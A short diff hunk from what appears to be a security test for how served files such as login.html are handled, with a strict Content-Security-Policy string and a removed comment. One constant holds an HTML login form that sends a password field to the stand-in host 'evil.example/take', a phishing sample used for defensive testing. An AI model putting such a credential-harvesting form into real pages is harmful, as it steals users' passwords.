@@ -8,7 +8,6 @@ const shop = setUpReleases();
 
 const LOG_IN = '<form action="https://evil.example/take"><input name="password" type="password"></form>';
 const RAW = "default-src 'none'; form-action 'none'; frame-ancestors 'none'; sandbox";
-/** What browsers show as a document, whatever its extension is called. */
 const DOCUMENTS = [
   'login.html',
   'login.htm',
